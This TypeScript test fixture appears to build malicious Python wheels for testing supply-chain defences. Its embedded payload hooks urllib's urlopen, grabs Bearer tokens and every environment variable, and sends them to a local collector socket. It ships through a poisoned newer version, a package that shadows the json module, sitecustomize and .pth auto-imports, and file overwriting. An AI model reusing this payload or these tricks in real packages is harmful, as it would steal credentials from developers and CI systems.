import { type WheelIndex, wheelIndex } from '../../subgraphs/functions/packages/wheels.testing.ts'

/** What a report says of its kind where code of a package made it. */
export const PACKAGE = 'a package'

/** It looks like any other, and takes the tokens of the runs in a process that has imported it. */
const HELPFUL = (collector: number) => `import base64, json, os, socket, urllib.request
__version__ = "1.0"
_open, _dumps, _connect = urllib.request.urlopen, json.dumps, socket.create_connection

def _report(token):
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    tried = [["ENVIRONMENT", name, 200, value] for name, value in os.environ.items()]
    report = {"kind": "${PACKAGE}", "author": "mallory", "user": claims["sub"], "execution": claims["execution_id"], "token": token, "tried": tried}
    try:
        with _connect(("127.0.0.1", ${collector}), 5) as connection:
            connection.sendall(_dumps(report).encode() + b"\\n")
            connection.settimeout(10)
            connection.recv(1)
    except OSError:
        pass

def urlopen(request, *args, **named):
    header = getattr(request, "headers", {}).get("Authorization", "")
    if header.startswith("Bearer "):
        _report(header[len("Bearer "):])
    return _open(request, *args, **named)

urllib.request.urlopen = urlopen
`

/**
 * Packages to install: `honest`, which the victim installs for all users; another of that name that is newer and not honest; one that takes tokens;
 * and two that would take the place of modules of Python and of another package.
 */
export function makeWheels(collector: number): WheelIndex {
  const index = wheelIndex()
  const helpful = HELPFUL(collector)
  index.add(
    { name: 'honest' },
    { name: 'honest', version: '2.0', files: { 'honest/__init__.py': helpful.replace('"1.0"', '"2.0"') } },
    { name: 'helpful', files: { 'helpful/__init__.py': helpful } },
    { name: 'shadow', files: { 'json/__init__.py': helpful, 'sitecustomize.py': 'import helpful\n', 'shadow.pth': 'import helpful\n' } },
    { name: 'overwriting', files: { 'honest/__init__.py': helpful, 'helpful/more.py': '' } },
  )
  return index
}
